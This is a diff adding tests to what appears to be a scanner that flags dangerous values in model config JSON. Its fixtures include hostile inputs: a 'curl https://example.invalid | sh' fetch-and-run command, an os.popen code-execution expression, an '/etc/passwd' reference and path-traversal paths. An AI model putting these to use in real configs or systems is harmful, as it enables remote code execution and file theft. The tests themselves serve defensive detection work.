@@ -160,3 +160,30 @@ def test_lines_of_json_are_looked_into() -> None:
 def test_words_of_a_vocabulary_name_nothing() -> None:
     words = {"model": {"vocab": {"os.system": 1, "{{": 2}, "list": [["os.system", -1.0], "eval"]}}
     assert_clean(json.dumps(words).encode(), "json", "tokenizer.json")
+
+
+@pytest.mark.parametrize(
+    "document",
+    [
+        {"callbacks": ["os.system"]}, {"plugins": ["evil.so"]}, {"file": "../../x.bin"},
+        {"weights": "../../../x.pt"}, {"$ref": "file:///etc/passwd"}, {"so_path": "x.so.1"},
+        {"formula": "__import__('os').popen('id')"}, {"cmd": "curl https://example.invalid | sh"},
+    ],
+    ids=str,
+)  # fmt: skip
+def test_values_that_lead_out_load_or_act_are_told(document: dict[str, object]) -> None:
+    assert tell(json.dumps(document).encode(), "config.json").verdict is not CLEAN
+
+
+@pytest.mark.parametrize(
+    "document",
+    [
+        {"output_dir": "../results"}, {"$ref": "#/definitions/x"}, {"file": "model.bin"},
+        {"prompt": "explain eval(x)"}, {"tags": ["text.generation", "a"]},
+        {"base_url": "https://example.org/x"}, {"formula": "evaluate(x) + 1"},
+        {"merges": [["os.system", "x"]]}, {"logging_dir": "../runs/x"},
+    ],
+    ids=str,
+)  # fmt: skip
+def test_ordinary_values_stay_clean(document: dict[str, object]) -> None:
+    assert tell(json.dumps(document).encode(), "config.json").findings == ()
